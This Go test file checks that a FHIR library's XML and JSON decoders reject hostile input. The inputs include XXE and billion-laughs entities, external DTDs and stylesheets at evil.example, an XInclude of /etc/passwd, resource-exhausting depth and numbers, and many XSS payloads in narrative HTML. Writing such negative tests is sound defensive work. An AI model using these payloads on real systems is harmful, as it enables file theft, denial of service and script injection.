package fhir_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/openconsult/openconsult/fhir"
)

// TestD1XML sends what makes readers of XML fetch, or grow without end: it is
// refused, and refused before it has cost much.
func TestD1XML(t *testing.T) {
	t.Parallel()
	deep := func(n int) string {
		return patient(strings.Repeat(`<extension url="u">`, n) + `<valueString value="x"/>` + strings.Repeat(`</extension>`, n))
	}
	for name, doc := range map[string]string{
		"billion laughs":     laughs,
		"external entity":    xxe,
		"DOCTYPE alone":      `<!DOCTYPE Patient>` + patient(""),
		"external DTD":       `<!DOCTYPE p SYSTEM "https://evil.example/a.dtd">` + patient(""),
		"parameter entity":   `<!DOCTYPE p [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>` + patient(""),
		"stylesheet":         `<?xml-stylesheet href="https://evil.example/a.xsl"?>` + patient(""),
		"instruction":        patient(`<?php x ?>`),
		"XInclude":           patient(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`),
		"UTF-7":              `<?xml version="1.0" encoding="UTF-7"?>` + patient(""),
		"depth":              deep(65),
		"a lot of depth":     strings.Repeat("<a>", 300_000),
		"depth in narrative": patient(`<text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml">` + strings.Repeat("<div>", 100) + "x" + strings.Repeat("</div>", 100) + `</div></text>`),
		"attributes":         patient(`<language value="en" ` + many(40, `a%d="x" `) + `/>`),
	} {
		if _, err := fhir.DecodeXML("", []byte(doc)); fhir.AsOutcome(err) == nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	if _, err := fhir.DecodeXML("", []byte(deep(20))); err != nil {
		t.Errorf("twenty levels: %v", err)
	}
}

// TestD2JSON sends depth, numbers and nodes without end.
func TestD2JSON(t *testing.T) {
	t.Parallel()
	deep := func(n int) string {
		return `{"resourceType":"Patient"` + strings.Repeat(`,"extension":[{"url":"u"`, n) + `,"valueString":"x"` + strings.Repeat(`}]`, n) + `}`
	}
	number := func(n string) string {
		return `{"resourceType":"Patient","extension":[{"url":"u","valueDecimal":` + n + `}]}`
	}
	for name, tt := range map[string]struct {
		doc string
		ok  bool
	}{
		"some depth":           {deep(20), true},
		"depth":                {deep(65), false},
		"a lot of depth":       {deep(100_000), false},
		"depth of nothing":     {strings.Repeat("[", 100_000), false},
		"digits":               {number("0." + strings.Repeat("1", 30)), true},
		"a lot of digits":      {number("1" + strings.Repeat("0", 5000)), false},
		"fractional digits":    {number("0." + strings.Repeat("1", 5000)), false},
		"exponent":             {number("1e999999999"), false},
		"small exponent":       {number("1e-999999999"), false},
		"integer that is none": {`{"resourceType":"Patient","multipleBirthInteger":99999999999999999999}`, false},
		"many nodes":           {`{"resourceType":"Patient","name":[{"given":["a"` + strings.Repeat(`,"b"`, 1_100_000) + `]}]}`, false},
	} {
		if _, err := fhir.Decode("", []byte(tt.doc)); (err == nil) != tt.ok || err != nil && fhir.AsOutcome(err) == nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// narrative returns a narrative with a body.
func narrative(body string) string {
	return `<div xmlns="http://www.w3.org/1999/xhtml">` + body + `</div>`
}

// TestD13Narratives writes narratives that would run or load something where they
// are shown: none is stored.
func TestD13Narratives(t *testing.T) {
	t.Parallel()
	links := []string{
		"javascript:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&#58;alert(1)", "&#160;javascript:alert(1)",
		"vbscript:msgbox(1)", "data:text/html,x", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "blob:https://x", "view-source:x", "javascript://%0aalert(1)", "feed:javascript:alert(1)", "livescript:x", "&#32;&#9;javascript:alert(1)",
	}
	var all []string
	for _, link := range links {
		all = append(all, `<a href="`+link+`">x</a>`, `<img src="`+link+`" alt="x"/>x`)
	}
	all = append(all, `<script>alert(1)</script>`, `<p onclick="alert(1)">x</p>`, `<p ONCLICK="alert(1)">x</p>`, `<form action="https://evil.example"><p>x</p></form>`, `<iframe src="https://evil.example">x</iframe>`, `<object data="x">x</object>`, `<embed src="x"/>x`, `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">x</svg>`,
		`<style>*{x:y}</style>x`, `<link rel="stylesheet" href="https://evil.example"/>x`, `<meta http-equiv="refresh" content="0"/>x`, `<base href="https://evil.example"/>x`, `<input value="x"/>x`, `<button>x</button>`, `<p style="background:url(https://evil.example)">x</p>`, `<p style="width:expression(alert(1))">x</p>`,
		`<p style="behavior:url(x)">x</p>`, `<p style="-moz-binding:url(x)">x</p>`, `<math><mtext>x</mtext></math>`, `<template><p>x</p></template>`, `<noscript><p>x</p></noscript>`, `<details ontoggle="alert(1)"><summary>x</summary></details>`, `<![CDATA[<script>alert(1)</script>]]>`, `<!--[if IE]><script>alert(1)</script><![endif]--><script/>x`)
	for _, div := range all {
		if _, err := fhir.Decode("", fmt.Appendf(nil, `{"resourceType":"Patient","text":{"status":"generated","div":%q}}`, narrative(div))); fhir.AsOutcome(err) == nil {
			t.Errorf("JSON: %s is taken", div)
		}
		// In XML, what is marked as text is text: it is kept so, with its markup escaped.
		r, err := fhir.DecodeXML("", []byte(patient(`<text><status value="generated"/>`+narrative(div)+`</text>`)))
		if text := strings.HasPrefix(div, "<![CDATA["); text && (err != nil || !strings.Contains(r.Root().Child("text").Child("div").Text(), "&lt;script&gt;alert(1)")) || !text && fhir.AsOutcome(err) == nil {
			t.Errorf("XML: %s is taken: %v, %s", div, err, r.Source())
		}
	}
	if _, err := fhir.Decode("", fmt.Appendf(nil, `{"resourceType":"Patient","text":{"status":"generated","div":%q}}`, narrative(`<p>x</p>`))); err != nil {
		t.Error(err)
	}
}
